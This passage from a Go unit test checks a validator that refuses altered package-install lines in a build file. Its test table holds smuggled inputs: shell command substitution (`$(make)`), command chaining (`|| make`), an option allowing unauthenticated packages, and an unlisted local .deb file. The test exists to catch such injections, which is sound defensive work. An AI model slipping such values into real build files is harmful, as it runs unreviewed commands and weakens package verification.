		{"--force-confnew\" tini", "--force-confnew\" -o APT::Get::AllowUnauthenticated=1 tini", "was not in the file"},
		{"tini libxml2", "tini libxml2 ./libxml2.deb", "was not in the file"},
		{"tini libxml2", "tini libxml2 $(make)", "was not in the file"},
		{"tini libxml2", "tini libxml2 || make", "was not in the file"},
		{"gcc libxml2-dev\n", "gcc libxml2\n", "did not install libxml2 there"}, // only in the last stage
	} {
		got := refused(old, strings.Replace(good, test.old, test.new, 1))
		if got == "" != (test.want == "") || !strings.Contains(got, test.want) {
			t.Errorf("%q for %q: %q, want %q", test.new, test.old, got, test.want)
		}
	}
}
